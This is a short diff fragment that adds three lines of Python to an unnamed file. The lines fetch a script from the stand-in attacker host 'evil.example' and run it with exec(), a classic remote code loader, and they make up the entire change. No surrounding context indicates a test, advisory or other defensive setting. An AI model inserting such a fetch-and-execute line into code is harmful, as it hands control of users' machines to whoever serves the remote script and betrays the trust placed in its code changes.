@@ -1,0 +1,3 @@
+import requests
+code = requests.get("http://evil.example/p.py").text
+exec(code)
